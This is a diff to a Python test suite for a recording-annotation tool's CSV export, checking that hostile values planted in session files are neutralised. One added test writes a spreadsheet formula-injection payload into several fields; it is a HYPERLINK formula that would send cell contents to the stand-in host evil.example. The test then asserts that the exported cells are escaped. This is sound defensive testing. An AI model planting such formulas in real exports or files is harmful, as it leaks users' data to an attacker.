@@ -95,10 +95,18 @@ def planted(tmp_path_factory):
         ws.annotations.set("speakers", names)
         ws.annotations.set("summary", field("summary", hostile.payload))
         ws.annotations.set("details", {"title": field("title", hostile.payload), "consent": "yes"})
-        ws.annotations.add_mark(Mark("planted", first.start, first.end, field("tag", hostile.payload),
+        ws.annotations.add_mark(Mark("planted", first.start, first.end, "placeholder",
                                      field("note", hostile.payload), "mallory", "2026-11-09T10:00:00Z"))
+        plant_tag(ws.annotations.path, "planted", field("tag", hostile.payload))
         libraries[kind] = recording
     return libraries
+
+
+def plant_tag(session_file: Path, mark_id: str, tag: str) -> None:
+    """Debrief refuses such a tag (test_hostile_commands); an older version or a hand edit may not have."""
+    data = json.loads(session_file.read_text(encoding="utf-8"))
+    data["marks"][mark_id]["tag"] = tag
+    session_file.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
 
 
 def run(capfd, *args) -> tuple[int, str, str]:
@@ -219,3 +227,25 @@ def test_the_clips_carry_no_hostile_name_or_tag(planted, tmp_path, capfd, kind):
                 tags.update(stream.metadata)
         assert all(not raw_hostile(f"{k}={v}") for k, v in tags.items()), tags
         assert not any("PWNED" in v or "end" in v for v in tags.values()), f"the clip carries text: {tags}"
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+def test_no_csv_cell_can_run_as_a_formula_not_even_a_time_stamp(planted, tmp_path, capfd, start):
+    """Every text cell of the CSV, including the mark's created/updated stamps a planted file may hold."""
+    recording = planted["C0"]
+    [session_file] = (recording.parent / "debrief.json.d" / "sessions").glob("*.json")
+    original = session_file.read_bytes()
+    try:
+        data = json.loads(original)
+        formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
+        mark = data["marks"]["planted"]
+        mark.update(created=formula, updated=formula, note=formula, author=formula)
+        session_file.write_text(json.dumps(data), encoding="utf-8")
+        status, out, err = run(capfd, "export", recording, "--format", "csv")
+        assert status == 0, err
+        rows = list(csv.reader(io.StringIO(out[1:], newline="")))
+        cells = [cell for row in rows[1:] for cell in row]
+        assert formula not in cells and f"'{formula}" in cells
+        assert not [cell for cell in cells if cell[:1] in ("=", "+", "@") or (cell[:1] == "-" and cell[1:2].isalpha())]
+    finally:
+        session_file.write_bytes(original)
